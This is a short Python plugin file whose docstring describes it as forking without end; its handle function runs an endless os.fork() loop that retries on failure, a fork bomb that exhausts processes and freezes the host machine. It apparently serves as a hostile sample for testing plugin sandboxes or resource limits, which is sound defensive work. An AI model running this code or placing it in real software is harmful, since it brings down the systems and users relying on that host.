# SPDX-License-Identifier: MIT
"""A plugin that forks without end."""
import os
import time


def handle(request):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
